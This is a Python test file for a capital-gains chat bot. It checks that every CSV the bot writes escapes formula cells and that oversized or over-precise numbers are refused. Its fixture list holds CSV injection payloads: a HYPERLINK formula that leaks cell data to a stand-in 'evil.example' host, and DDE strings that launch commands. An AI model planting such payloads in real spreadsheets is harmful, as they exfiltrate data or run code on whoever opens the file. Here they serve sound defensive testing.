"""Hostile input: formula cells in every CSV the bot writes, numbers at and past their bounds on every path."""

from __future__ import annotations

import csv
import io
import itertools
from pathlib import Path

import pytest

from calc.limits import PRICE, SHARES
from conversations.events import Event, FileIn
from conversations.files.render.csv_cells import DANGEROUS_START, PLAIN_NUMBER, safe_cell
from tests.chat import NOW, Chat

_files = itertools.count()

HOSTILE_ACCOUNTS = [
    '=HYPERLINK("http://evil.example/?"&A2,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def send_file(chat: Chat, name: str, content: bytes) -> str:
    event = Event(kind="file", id=f"f{next(_files)}", now=NOW, file=FileIn(name=name, content=content))
    chat.last = chat.service.process(chat.user_id, event)
    return "\n".join(r.text for r in chat.last)


def generic(*rows: str) -> bytes:
    return ("date,side,symbol,quantity,price,fees,account\n" + "\n".join(rows) + "\n").encode()


def written_csvs(chat: Chat) -> list[list[list[str]]]:
    files = [f for r in chat.last for f in r.files if f.name.endswith(".csv")]
    assert files, "no CSV in the reply"
    return [list(csv.reader(io.StringIO(f.content.decode()))) for f in files]


def assert_no_formula(table: list[list[str]]) -> None:
    for row in table:
        for cell in row:
            assert not cell.startswith(DANGEROUS_START) or PLAIN_NUMBER.match(cell), cell


def test_formula_cells_are_neutralized_in_every_csv_the_bot_writes(tmp_path: Path) -> None:
    chat = Chat(tmp_path / "cgt.db")
    rows = []
    for i, account in enumerate(HOSTILE_ACCOUNTS):
        quoted = '"' + account.replace('"', '""') + '"'
        rows.append(f"2024-01-1{i},buy,XYZ,10,20,0,{quoted}")
        rows.append(f"2024-03-1{i},sell,XYZ,10,15,0,{quoted}")  # losses: negative numbers in Form 8949
    assert "Add 12 trades" in send_file(chat, "hostile.csv", generic(*rows)) or chat.last[0].buttons
    chat.tap("Add")
    seen: list[str] = []
    for command in ("/export", "/form8949 2024"):
        chat.send(command)
        for table in written_csvs(chat):
            assert_no_formula(table)
            seen.extend(cell for row in table for cell in row)
    assert '\'=HYPERLINK("http://evil.example/?"&A2,"x")' in seen  # kept, as text
    assert "-50.00" in seen  # a loss stays a number a spreadsheet can add

    # The export still imports back whole: the apostrophe comes off, the accounts are the same.
    chat.send("/export")
    (export,) = [f for r in chat.last for f in r.files]
    again = Chat(tmp_path / "cgt.db", user_id=2)
    send_file(again, "cgt-trades.csv", export.content)
    again.tap("Add")
    mine = sorted(t.account or "" for t in chat.service.state(1).trades)
    assert sorted(t.account or "" for t in again.service.state(2).trades) == mine
    assert '=HYPERLINK("http://evil.example/?"&A2,"x")' in mine
    assert "=1+1" in mine  # the tab and carriage return are not kept: printable text only


def test_free_text_from_a_file_is_short_and_printable(tmp_path: Path) -> None:
    chat = Chat(tmp_path / "cgt.db")
    long_account = "Brokerage\x00\x07 account " + "x" * 5000
    send_file(chat, "a.csv", generic(f"2024-01-10,buy,XYZ,1,20,0,{long_account}"))
    chat.tap("Add")
    (trade,) = chat.service.state(1).trades
    assert trade.account is not None and len(trade.account) <= 64 and trade.account.isprintable()
    assert trade.account.startswith("Brokerage account x")


@pytest.mark.parametrize(
    "cell",
    ["-5", "-500.00", "12", "0.25", "=1+2", "+1", "-1+2", "@A1", "\tx", "\rx", "-", "--5", "-1e5", "plain", ""],
)
def test_safe_cell(cell: str) -> None:
    out = safe_cell(cell)
    if cell.startswith(DANGEROUS_START) and not PLAIN_NUMBER.match(cell):
        assert out == "'" + cell
    else:
        assert out == cell


# --- numbers ------------------------------------------------------------------------------------

HUGE_ROWS = {
    "1e20": "2024-01-10,buy,XYZ,1e20,1e20,0,",
    "1e5000": "2024-01-10,buy,XYZ,1e5000,20,0,",
    "1e999999": "2024-01-10,buy,XYZ,1,1e999999,0,",
    "fees": "2024-01-10,buy,XYZ,1,20,1e30,",
    "places": "2024-01-10,buy,XYZ,0.10000000000000000000000000000001,20,0,",
    "tiny price": "2024-01-10,buy,XYZ,1,0.0000001,0,",
}


@pytest.mark.parametrize("name", list(HUGE_ROWS))
def test_imported_numbers_past_their_bounds_are_refused_with_a_reason(tmp_path: Path, name: str) -> None:
    chat = Chat(tmp_path / "cgt.db")
    text = send_file(chat, "big.csv", generic(HUGE_ROWS[name], "2024-02-10,buy,ABC,1,20,0,"))
    assert "row 2:" in text and ("can't be more than" in text or "decimal places" in text), text
    assert len(text) < 1000
    chat.tap("Add")
    assert [t.symbol for t in chat.service.state(1).trades] == ["ABC"]
    for command in ("/gains 2024", "/form8949 2024", "/trades", "/portfolio", "/harvest"):
        assert "went wrong" not in chat.send(command)


def test_numbers_at_the_bounds_work_everywhere(tmp_path: Path) -> None:
    chat = Chat(tmp_path / "cgt.db")
    most, price = SHARES.maximum, PRICE.maximum
    text = send_file(
        chat,
        "edge.csv",
        generic(
            f"2024-01-10,buy,XYZ,{most},{price},{price},",
            f"2024-02-10,sell,XYZ,{most},0.000001,0,",
            "2024-01-10,buy,ABC,0.00000001,0.000001,0.000001,",
        ),
    )
    assert "couldn't read" not in text, text
    chat.tap("Add")
    assert len(chat.service.state(1).trades) == 3
    chat.send("/price ABC 1000000000")
    for command in (
        "/gains 2024",
        "/form8949 2024",
        "/trades",
        "/portfolio",
        "/harvest",
        "/whatif sell 0.00000001 ABC 5",
    ):
        reply = chat.send(command)
        assert "went wrong" not in reply and reply, command
    # Exact to the cent at the bounds: basis 10^9 x $10^9 + $10^9 fees, proceeds 10^9 x $0.000001.
    assert "$1,000,000,000,999,999,000.00 short-term loss" in chat.send("/gains 2024")


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        ("/buy 0.10000000000000000000000000000001 XYZ 20 2024-01-10", "at most 8 decimal places"),
        ("/buy 2000000000 XYZ 20 2024-01-10", "looks too large"),
        ("/buy 10 XYZ 5000000000 2024-01-10", "price can't be more than 1,000,000,000"),
        ("/buy 10 XYZ 20.1234567 2024-01-10", "at most 6 decimal places"),
        ("/buy 10 XYZ 20 2024-01-10 fees 2000000000", "fees can't be more than"),
        ("/exercise 10 XYZ nso strike 10 fmv 5000000000 2024-01-10", "can't be more than"),
        ("/price XYZ 5000000000", "price can't be more than"),
        ("/edit 1 price 5000000000", "price can't be more than"),
        ("/edit 1 shares 0.000000001", "at most 8 decimal places"),
    ],
)
def test_typed_and_edited_numbers_past_their_bounds_are_refused(tmp_path: Path, typed: str, expected: str) -> None:
    chat = Chat(tmp_path / "cgt.db")
    chat.send("/buy 1 XYZ 20 2024-01-10")
    before = chat.service.state(1)
    reply = chat.send(typed)
    assert expected in reply, reply
    assert chat.service.state(1).trades == before.trades and chat.service.state(1).prices == before.prices


def test_the_sale_of_a_typed_fraction_matches_what_is_held(tmp_path: Path) -> None:
    chat = Chat(tmp_path / "cgt.db")
    chat.send("/price XYZ 10")
    assert "Saved #1" in chat.send("/buy 0.12345678 XYZ 20 2024-01-10")
    assert "went wrong" not in chat.send("/harvest")
    assert "Saved #2" in chat.send("/sell 0.12345678 XYZ 15 2024-02-10")
    chat.send("/buy 0.1 XYZ 20 2024-03-10")
    assert "can't sell" in chat.send("/sell 0.10000001 XYZ 15 2024-04-10")
    # The "you held 0.1 XYZ, so you can't sell 0.1": every place a quantity may have is shown.
    chat.send("/buy 0.12345678 ABC 20 2024-01-10")
    assert "you held 0.12345678 ABC, so you can't sell 0.12345679" in chat.send("/sell 0.12345679 ABC 15 2024-02-10")


def test_wizard_steps_are_bounded_too(tmp_path: Path) -> None:
    chat = Chat(tmp_path / "cgt.db")
    chat.send("/buy")
    chat.send("XYZ")
    chat.send("2024-01-10")
    assert "at most 8 decimal places" in chat.send("0.000000001")
    assert "price" in chat.send("1").lower()
    assert "at most 6 decimal places" in chat.send("20.0000001")


def test_every_csv_writer_goes_through_safe_cells() -> None:
    # A new CSV the bot writes must use SafeWriter, or its cells can carry formulas into a spreadsheet.
    root = Path(__file__).resolve().parent.parent
    raw = [
        str(path.relative_to(root))
        for folder in ("conversations", "bot", "calc")
        for path in (root / folder).rglob("*.py")
        if path.name != "csv_cells.py" and ("csv.writer(" in path.read_text() or "DictWriter(" in path.read_text())
    ]
    assert raw == []


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        ("bought 0.123456789 XYZ at 20 on 2024-01-10", "at most 8 decimal places"),
        ("bought 10 XYZ at 20.1234567 on 2024-01-10", "at most 6 decimal places"),
    ],
)
def test_trades_said_in_words_are_bounded_too(tmp_path: Path, said: str, expected: str) -> None:
    # Found by the fuzz test: the understanding layer reads numbers its own way; the router checks
    # every trade a step adds or changes, whatever path it came by.
    chat = Chat(tmp_path / "cgt.db")
    assert expected in chat.send(said)
    assert chat.service.state(1).trades == ()


def test_a_zero_understood_in_words_is_refused_not_a_crash(tmp_path: Path) -> None:
    # Found by the long fuzz run: "bought ABC 0 at 20" was offered as "Bought 0 ABC … save it?", and
    # Save ended in a traceback (the model wants more than zero shares).
    chat = Chat(tmp_path / "cgt.db")
    reply = chat.send("bought ABC 0 at 20")
    assert "Zero shares isn't a trade" in reply and not chat.last[0].buttons  # not offered to save at all
    assert chat.service.state(1).trades == ()
